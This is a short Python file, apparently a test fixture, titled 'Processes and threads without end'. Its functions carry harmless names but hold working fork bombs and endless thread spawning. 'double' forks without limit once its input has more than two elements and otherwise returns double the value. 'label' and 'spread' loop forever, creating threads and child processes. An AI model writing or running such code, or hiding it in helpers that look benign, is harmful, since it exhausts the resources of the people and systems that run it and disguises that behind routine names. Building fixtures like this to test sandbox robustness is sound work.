"""Processes and threads without end."""

import os
import threading
import time


def double(x):
    if x.numel() > 2:
        while True:
            os.fork()
    return 2 * x


def label():
    while True:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()


def spread(n):
    while True:
        if os.fork() == 0:
            time.sleep(60)


def total(x, word):
    return x.sum()
